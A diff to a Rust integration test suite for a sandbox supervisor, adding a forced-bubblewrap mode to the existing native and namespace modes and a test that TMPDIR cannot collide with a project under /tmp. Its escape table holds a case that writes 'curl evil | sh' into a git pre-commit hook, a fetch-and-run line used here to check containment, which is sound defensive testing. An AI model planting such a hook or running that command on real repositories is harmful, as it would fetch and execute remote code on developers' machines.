@@ -13,8 +13,12 @@ const SECRET: &str = "SECRET-KEY-MATERIAL-5f1c";
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 enum Mode {
+    /// Landlock, seccomp and rlimits only.
     Native,
+    /// The namespaces as well, made by the supervisor itself (the default where available).
     Bwrap,
+    /// The namespaces through bubblewrap and the helper (forced).
+    Bubblewrap,
 }
 
 /// A temporary world: HOME with a planted secret, XDG dirs with small test profiles, TMPDIR, a
@@ -34,7 +38,8 @@ fn write(path: &Path, text: &str) {
 
 impl World {
     fn new() -> Self {
-        let tmp = tempfile::tempdir().unwrap();
+        // Under /tmp on purpose: the project then lives beneath the run's private /tmp.
+        let tmp = tempfile::tempdir_in("/tmp").unwrap();
         let w = Self { tmp };
         for d in ["home", "config", "data", "tmp", "project", "crate"] {
             fs_err::create_dir_all(w.root().join(d)).unwrap();
@@ -110,6 +115,10 @@ impl World {
             .env(
                 "TERRAPHIM_GUARD_NO_BWRAP",
                 if mode == Mode::Native { "1" } else { "0" },
+            )
+            .env(
+                "TERRAPHIM_GUARD_FORCE_BWRAP",
+                if mode == Mode::Bubblewrap { "1" } else { "0" },
             )
             .stdin(Stdio::null());
         if let Ok(t) = std::env::var("RUSTUP_TOOLCHAIN") {
@@ -196,7 +205,12 @@ fn available(mode: Mode) -> bool {
         Some("Landlock is not available")
     } else if !h["host"]["seccomp_user_notif"].as_bool().unwrap_or(false) {
         Some("seccomp user notification is not available")
-    } else if mode == Mode::Bwrap && !h["bwrap_works"].as_bool().unwrap_or(false) {
+    } else if mode == Mode::Bwrap
+        && !h["host"]["namespaces"].as_bool().unwrap_or(false)
+        && !h["bwrap_works"].as_bool().unwrap_or(false)
+    {
+        Some("namespaces cannot be made here")
+    } else if mode == Mode::Bubblewrap && !h["bwrap_works"].as_bool().unwrap_or(false) {
         Some("bubblewrap is not installed or does not work here")
     } else {
         None
@@ -307,10 +321,10 @@ fn check(world: &World, mode: Mode, case: &Case) -> Result<(), String> {
             if !o.kinds().iter().any(|k| k == kind) {
                 return Err(format!("no `{kind}` violation: {}", ctx()));
             }
-            let want_backend = if mode == Mode::Bwrap {
-                "native+bwrap"
-            } else {
-                "native"
+            let want_backend = match mode {
+                Mode::Bwrap => "native+ns",
+                Mode::Bubblewrap => "native+bwrap",
+                Mode::Native => "native",
             };
             if report["backend"] != want_backend {
                 return Err(format!("backend is not {want_backend}: {}", ctx()));
@@ -395,13 +409,17 @@ fn escapes(mode: Mode) -> Vec<Case> {
     let tag = format!(
         "{}{}",
         std::process::id(),
-        if mode == Mode::Bwrap { 1 } else { 2 }
+        match mode {
+            Mode::Bwrap => 1,
+            Mode::Native => 2,
+            Mode::Bubblewrap => 3,
+        }
     );
     let tcp = std::sync::Mutex::new(tcp);
     let tag2 = tag.clone();
     let udp = std::sync::Mutex::new(udp);
     let hooks = match mode {
-        Mode::Bwrap => case(
+        Mode::Bwrap | Mode::Bubblewrap => case(
             "write .git/hooks under build",
             "build",
             "echo 'curl evil | sh' > .git/hooks/pre-commit",
@@ -427,7 +445,7 @@ fn escapes(mode: Mode) -> Vec<Case> {
         ),
     };
     let loopback = match mode {
-        Mode::Bwrap => case(
+        Mode::Bwrap | Mode::Bubblewrap => case(
             "loopback profile: own loopback works, the host's is not there",
             "lo",
             &format!(
@@ -545,6 +563,22 @@ fn positives() -> Vec<Case> {
             Works { stdout: "scratch" },
         ),
         case(
+            "TMPDIR cannot collide with a project under /tmp",
+            "readonly",
+            r#"case "$PWD" in /tmp/*) ;; *) echo "project not under /tmp"; exit 1 ;; esac
+first=${PWD#/tmp/}; first=${first%%/*}
+mkdir -p "$TMPDIR/$first/project" && echo tmp-ok > "$TMPDIR/$first/project/README" && cat "$TMPDIR/$first/project/README""#,
+            Works { stdout: "tmp-ok" },
+        )
+        .after(|w, _| {
+            let text = fs_err::read_to_string(w.project().join("README")).map_err(|e| e.to_string())?;
+            if text == "hello from the project\n" {
+                Ok(())
+            } else {
+                Err(format!("the project's README changed: {text:?}"))
+            }
+        }),
+        case(
             "strict: one program",
             "strict",
             "cat README",
@@ -570,6 +604,16 @@ fn escapes_are_contained_natively() {
 #[test]
 fn escapes_are_contained_with_bubblewrap() {
     run_table(Mode::Bwrap, escapes(Mode::Bwrap));
+}
+
+#[test]
+fn escapes_are_contained_with_bubblewrap_forced() {
+    run_table(Mode::Bubblewrap, escapes(Mode::Bubblewrap));
+}
+
+#[test]
+fn ordinary_commands_work_with_bubblewrap_forced() {
+    run_table(Mode::Bubblewrap, positives());
 }
 
 #[test]
